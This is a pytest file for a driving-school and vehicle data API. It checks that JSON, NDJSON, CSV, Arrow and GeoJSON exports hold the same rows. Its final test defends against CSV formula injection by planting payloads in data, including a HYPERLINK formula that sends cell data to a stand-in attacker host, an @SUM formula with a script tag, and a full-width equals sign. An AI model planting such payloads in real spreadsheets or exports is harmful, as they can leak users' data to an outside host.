"""Every list in every form: each is read by its own reader, and all hold the same rows."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import geopandas
import pandas as pd
import pyarrow as pa
import pytest

from api.forms import PLACED, Form, chosen
from api.problems import Refuse
from reports.csv_files import disarmed
from tests.api.calls import get, kind_of
from tests.api.conftest import Server
from tests.api.edited import audited_again, edited
from tests.api.test_conditional import asked
from tests.api.walking import DATE

WHY = "reason=complaint%2017"
TABLES = {
    f"schools?{DATE}": 2, f"vehicles?{DATE}": 17, f"schedules?{DATE}": 7, f"schedule-exceptions?{DATE}": 1,
    f"sessions?{DATE}": 44, f"exams?{DATE}": 4, f"not-assessed?{DATE}&limit=1000": 1, f"coverage?{DATE}": 2,
    "nights": 1, "runs": 1, f"vehicles/V0005/passages?{DATE}&{WHY}&people=true": 1,
}  # fmt: skip
"""Path to the least number of rows."""
MAPS = {f"zones?{DATE}": 6, f"cameras?{DATE}": 18, f"findings?{DATE}": 15, f"vehicles/V0001/track?{DATE}&{WHY}": 2000}


@pytest.mark.parametrize(
    ("accept", "expected"),
    [
        ("", Form.JSON),
        ("*/*", Form.JSON),
        ("text/html, */*;q=0.1", Form.JSON),
        ("text/csv", Form.CSV),
        ("text/*", Form.CSV),
        ("application/geo+json, application/json;q=0.5", Form.GEOJSON),
        ("application/*;q=0.5, text/csv;q=0.6", Form.CSV),
        ("application/json;q=0, */*", Form.GEOJSON),
        ("Application/X-NDJSON; charset=utf-8", Form.NDJSON),
        ("application/vnd.apache.arrow.stream;q=0.9, text/csv;q=bad", Form.ARROW),
    ],
)
def test_a_caller_gets_the_form_that_it_likes_best(accept: str, expected: Form) -> None:
    assert chosen(asked(accept=accept), PLACED) is expected


@pytest.mark.parametrize("accept", ["text/html", "application/json;q=0", "image/*", "*/*;q=0", "nonsense"])
def test_a_form_that_is_not_offered_is_refused_with_those_that_are(accept: str) -> None:
    with pytest.raises(Refuse) as refused:
        chosen(asked(accept=accept), PLACED)
    assert refused.value.status_code == 406
    assert all(form in refused.value.errors[0].message for form in PLACED)


def test_406_is_a_problem_too_and_no_look_at_anything(reading_server: Server) -> None:
    answer = get(reading_server, "auditor", f"/v1/findings?{DATE}", accept="text/html")
    assert (answer.status_code, kind_of(answer)) == (406, "not-acceptable")


def csv_rows(answer: Any) -> list[dict[str, str]]:
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert answer.content.startswith(b"\xef\xbb\xbf")
    assert answer.content.count(b"\r\n") >= 1
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def arrow_rows(answer: Any) -> pa.Table:
    assert answer.headers["content-type"] == str(Form.ARROW)
    with pa.ipc.open_stream(answer.content) as reader:
        return reader.read_all()


def ndjson_rows(answer: Any) -> list[dict[str, Any]]:
    assert answer.headers["content-type"] == str(Form.NDJSON)
    return [json.loads(line) for line in answer.text.splitlines()]


def cell(value: Any) -> str:
    """What a CSV cell says of a JSON value."""
    if isinstance(value, list) and not any(isinstance(v, dict) for v in value):
        return ",".join(map(str, value))
    if isinstance(value, list | dict):
        return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
    return "" if value is None else str(int(value)) if isinstance(value, bool) else str(value)


def same(arrow: Any, told: Any) -> bool:
    """Whether a value of an Arrow column is what the JSON has."""
    if hasattr(arrow, "isoformat") and isinstance(told, str) and "T" in told:
        return bool(pd.Timestamp(arrow) == pd.Timestamp(told))
    if hasattr(arrow, "isoformat"):
        return bool(arrow.isoformat() == told)
    return bool(arrow == told) or (isinstance(arrow, str) and json.loads(arrow) == told)


@pytest.mark.parametrize("path", [*TABLES, *MAPS])
def test_every_form_holds_the_same_rows(reading_server: Server, path: str) -> None:
    def asked_for(form: Form) -> Any:
        answer = get(reading_server, "auditor", f"/v1/{path}", accept=str(form))
        assert answer.status_code == 200, answer.text
        assert "Accept" in answer.headers["vary"]
        return answer

    rows = asked_for(Form.JSON).json()["items"]
    assert len(rows) >= {**TABLES, **MAPS}[path]
    assert ndjson_rows(asked_for(Form.NDJSON)) == rows
    cells, table = csv_rows(asked_for(Form.CSV)), arrow_rows(asked_for(Form.ARROW)).to_pylist()
    assert len(cells) == len(table) == len(rows)
    for row, told, arrow in zip(rows, cells, table, strict=True):
        flat = {name: value for name, value in row.items() if name not in {"geometry", "summary"}}
        assert set(told) - {"summary_zh", "summary_en"} == set(flat)
        assert {n: disarmed(told[n]) for n in flat} == {n: cell(v) for n, v in flat.items()}
        assert all(same(arrow[n], v) for n, v in flat.items()), (arrow, flat)


@pytest.mark.parametrize("path", MAPS)
def test_a_map_is_read_by_a_gis_and_is_the_same_in_arrow(reading_server: Server, path: str, tmp_path: Path) -> None:
    file = tmp_path / "map.geojson"
    answer = get(reading_server, "auditor", f"/v1/{path}", accept=str(Form.GEOJSON))
    assert answer.headers["content-type"] == "application/geo+json"
    file.write_bytes(answer.content)
    drawn = geopandas.read_file(file, engine="pyogrio")
    told = answer.json()["features"]
    assert (len(drawn), drawn.crs.to_epsg()) == (len(told), 4326)
    assert len(drawn) >= MAPS[path]
    arrow = geopandas.GeoDataFrame.from_arrow(
        arrow_rows(get(reading_server, "auditor", f"/v1/{path}", accept=str(Form.ARROW)))
    )
    assert arrow.crs.to_authority() == ("OGC", "CRS84")
    both = zip(drawn.geometry, arrow.geometry, strict=True)
    assert all((a is None and b is None) or a.equals_exact(b, 1e-9) for a, b in both)


def test_a_tracks_fixes_carry_their_times(reading_server: Server) -> None:
    answer = get(reading_server, "auditor", f"/v1/vehicles/V0001/track?{DATE}", x_reason="C17")
    assert answer.headers["content-type"] == "application/geo+json"
    assert answer.headers["cache-control"] == "private, no-store"
    times = [f["properties"]["time"] for f in answer.json()["features"]]
    assert times == sorted(times)
    assert times[0].startswith("2026-03-18T0")
    assert times[0].endswith("+08:00")


HOSTILE = '=HYPERLINK("http://evil.test?"&A1)'


def test_hostile_names_are_harmless_in_csv_and_untouched_elsewhere(server: Server, tmp_path: Path) -> None:
    quoted = '"' + HOSTILE.replace('"', '""') + '"'
    edits = (
        ("schools.csv", "柳湾驾校", quoted),
        ("zones.geojson", "柳湾训练场", "@SUM(1+1)\\r\\n<script>"),
        ("exceptions.csv", "雨天停训后补训", "＝1+1"),
    )
    audited_again(server, edited(tmp_path / "city", *edits))
    names = {row["school_id"]: row["name"] for row in get(server, "auditor", f"/v1/schools?{DATE}").json()["items"]}
    assert names["SCH01"] == HOSTILE
    for path, column in (("schools", "name"), ("zones", "name"), ("schedule-exceptions", "reason")):
        answer = get(server, "auditor", f"/v1/{path}?{DATE}", accept="text/csv")
        cells = [row[column] for row in csv_rows(answer)]
        assert any(told.startswith("'") for told in cells), cells
        assert not any(told.lstrip().startswith(("=", "+", "-", "@", "＝")) for told in cells), cells
